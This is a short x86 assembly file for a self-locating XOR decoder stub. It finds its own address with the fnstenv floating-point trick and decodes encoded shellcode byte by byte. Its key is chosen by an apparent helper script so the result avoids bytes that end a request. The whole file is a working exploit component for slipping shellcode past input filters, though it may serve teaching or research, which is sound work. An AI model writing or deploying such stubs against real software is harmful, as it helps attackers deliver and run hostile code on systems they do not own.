; In front of an encoded shellcode: finds itself by the floating-point environment (fnstenv leaves the address of the
; last floating-point instruction) and undoes the xor, byte by byte. LENGTH, KEY and PAYLOAD are given on the command
; line by demo_encode.py, which chooses KEY so that the whole holds none of the bytes that end a request.
bits 32
start:
	fldz
	fnstenv [esp - 12]
	pop ebx				; address of start
	xor ecx, ecx
	mov cx, LENGTH ^ 0x5555
	xor cx, 0x5555
next:
	xor byte [ebx + ecx + payload - start - 1], KEY
	loop next
payload:
	incbin PAYLOAD
